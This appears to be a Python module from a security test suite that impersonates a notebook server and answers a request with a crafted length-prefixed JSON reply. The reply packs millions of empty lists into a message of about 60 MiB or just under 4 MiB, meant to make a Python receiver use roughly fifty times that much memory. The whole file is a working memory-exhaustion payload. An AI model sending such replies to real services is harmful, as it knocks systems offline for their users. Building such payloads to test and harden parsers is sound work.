"""Sends as many empty lists as a message holds, which Python keeps in fifty times the memory."""

from attacks import impersonate


def attack(notebook):
    impersonate(notebook, reply)


def reply(request):
    import struct

    room = [60 << 20, (4 << 20) - 40][len(request.get("check", "")) % 2]
    text = b'{"outputs": [], "observed": [' + b",".join([b"[]"] * (room // 3)) + b"]}"
    return struct.pack(">II", len(text), 0) + text
